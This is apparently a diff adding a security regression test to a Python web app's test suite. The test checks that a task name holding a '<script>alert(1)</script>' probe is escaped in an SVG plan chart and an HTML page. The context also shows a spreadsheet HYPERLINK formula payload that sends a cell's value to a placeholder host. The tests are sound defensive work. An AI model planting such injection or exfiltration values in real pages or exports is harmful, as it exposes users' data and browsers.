@@ -122,6 +122,21 @@ async def test_exports_are_well_formed_whatever_text_was_stored(http):
     assert page.status_code == 200 and "\x00" not in page.text
 
 
+async def test_markup_typed_as_a_name_is_shown_as_text_in_the_chart(http):
+    project, pm, liaison, viewer, late = await late_plan()
+    name = '<script>alert(1)</script> & "引号"'
+    await Task.filter(id=late.id).update(name=name)
+    await log_in(http, pm.email)
+    svg = await http.get("/projects/TRK/plan.svg")
+    titles = [
+        t.text or ""
+        for t in ElementTree.fromstring(svg.content).iter("{http://www.w3.org/2000/svg}title")  # noqa: S314
+    ]
+    assert any(name in t for t in titles) and "<script>" not in svg.text
+    page = await http.get("/projects/TRK/plan")
+    assert "<script>alert(1)" not in page.text and "&lt;script&gt;alert(1)" in page.text
+
+
 async def test_formulas_typed_as_names_are_exported_as_text(http):
     project, pm, liaison, viewer, late = await late_plan()
     formula = '=HYPERLINK("http://example.invalid/?x="&A1,"点我")'
